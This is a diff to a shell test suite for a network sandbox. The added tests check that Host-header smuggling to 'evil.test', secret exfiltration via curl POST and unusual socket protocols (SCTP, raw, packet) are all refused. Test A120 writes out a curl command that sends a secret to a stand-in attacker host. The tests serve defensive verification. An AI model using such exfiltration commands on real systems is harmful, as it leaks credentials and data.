@@ -106,6 +106,14 @@ refused_by_us() {
     done
 }
 
+@test "A101 documented: another host's name inside the encrypted request" {
+    # The server that was allowed answers; nobody else is reached.
+    [ "$(netbox -- curl -sSk -H "Host: evil.test:$CANARY" https://ok.test/hello)" = hello ]
+    grep -q "GET /hello evil.test:$CANARY" "$NET/log"
+    nobody_reached
+    grep -q 'can be asked' "$ABX_SOURCE/docs/threat-model.md"
+}
+
 @test "A102 A107 every request of a connection, a redirect's too" {
     run say 3128 "GET http://ok.test/hello HTTP/1.1\r\nHost: x\r\n\r\nGET http://evil.test:$CANARY/ HTTP/1.1\r\nHost: ok.test\r\nConnection: close\r\n\r\n"
     [[ $output == *"200 OK"*hello*" 403 "*"not allowed"* ]]
@@ -169,15 +177,27 @@ refused_by_us() {
     looked_up ok.dns.test
 }
 
+# Of whichever sandbox is under test.
+NO_SOCKET='EPERM|EACCES|EPROTONOSUPPORT|ESOCKTNOSUPPORT|EAFNOSUPPORT'
+
 @test "A112 no other protocol" {
     OPTIONS+=("${ALLOW[@]}")
-    local kind
-    for kind in tfo mptcp; do
-        refused 'ENETUNREACH|ECONNREFUSED|EHOSTUNREACH|EADDRNOTAVAIL|EPERM|EINPROGRESS|EOPNOTSUPP|EPROTONOSUPPORT' inet "$kind" 127.0.0.6 "$CANARY"
+    local kind protocol
+    refused 'ENETUNREACH|ECONNREFUSED|EHOSTUNREACH|EADDRNOTAVAIL|EPERM|EINPROGRESS|EOPNOTSUPP' inet tfo 127.0.0.6 "$CANARY"
+    # SCTP, MPTCP, SMC; as packets, too.
+    for protocol in 132 262 256; do
+        for kind in 1 5; do
+            refused "$NO_SOCKET" sys socket 2 "$kind" "$protocol"
+            refused "$NO_SOCKET" sys socket 10 "$kind" "$protocol"
+        done
     done
-    refused 'EPERM|EPROTONOSUPPORT|ESOCKTNOSUPPORT|EAFNOSUPPORT' sys socket 2 1 132 # SCTP
-    refused 'EPERM|EACCES' sys socket 2 2 1                                         # ICMP
-    refused EPERM sys socket 2 3 1
+    refused "$NO_SOCKET" sys socket 2 6 33   # DCCP
+    refused "$NO_SOCKET" sys socket 2 2 136  # UDP-Lite
+    refused "$NO_SOCKET" sys socket 2 2 1    # ping
+    refused "$NO_SOCKET" sys socket 10 2 58
+    refused "$NO_SOCKET" sys socket 2 3 1    # raw
+    refused "$NO_SOCKET" sys socket 10 3 255
+    refused "$NO_SOCKET" sys socket 2 10 768 # packets, by an old name
     nobody_reached
 }
 
@@ -248,6 +268,13 @@ for i in range(600):
 open("up", "w").close(); time.sleep(600)'
     wait_for test -e "$W/up"
     [ "$(netbox -- curl -sS http://ok.test/hello)" = hello ]
+}
+
+@test "A120 documented: an allowed host that stores what it is sent is a way out; another is not" {
+    run netbox --env S="$SECRET" -c 'curl -sS -d "$S" http://ok.test/gist; curl -sS -d "$S" "http://evil.test:'"$CANARY"'/"'
+    [[ $output == "got ${#SECRET} "*"not allowed"* ]]
+    grep -q 'stores what anybody sends' "$ABX_SOURCE/docs/threat-model.md"
+    nobody_reached
 }
 
 @test "A121 a client that knows no proxy fails at once, and is not let through" {
